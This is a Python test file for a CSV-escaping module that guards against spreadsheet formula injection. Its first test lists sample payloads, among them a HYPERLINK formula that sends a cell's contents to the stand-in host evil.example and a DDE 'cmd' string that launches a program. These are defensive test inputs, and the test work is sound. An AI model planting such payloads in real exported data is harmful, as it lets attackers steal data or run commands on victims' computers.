"""CSV cells a spreadsheet could run as formulas are written as text (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rankandfile import csv_safe


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_it_quotes_a_cell_that_a_spreadsheet_would_run(cell: str) -> None:
    assert csv_safe.safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-12.50000", "+3", "-0.5", "42", "1037.64000"])
def test_it_leaves_a_plain_number_a_number(cell: str) -> None:
    assert csv_safe.safe_cell(cell) == cell


def test_it_leaves_ordinary_text_and_numbers_alone() -> None:
    assert csv_safe.safe_cell("Ann O'Neill") == "Ann O'Neill"
    assert csv_safe.safe_cell("a=b") == "a=b"
    assert csv_safe.safe_cell(-3) == -3
    assert csv_safe.safe_cell(Decimal("-1.5")) == Decimal("-1.5")
    assert csv_safe.safe_cell(None) == ""


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_written_cell_starts_a_formula_unless_it_is_a_plain_number(row: list[str]) -> None:
    buffer = io.StringIO()
    csv_safe.writer(buffer).writerow(row)
    read_back = next(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    for original, cell in zip(row, read_back, strict=True):
        assert cell in {original, "'" + original}
        assert not cell.startswith(csv_safe.FORMULA_STARTS) or Decimal(cell).is_finite()
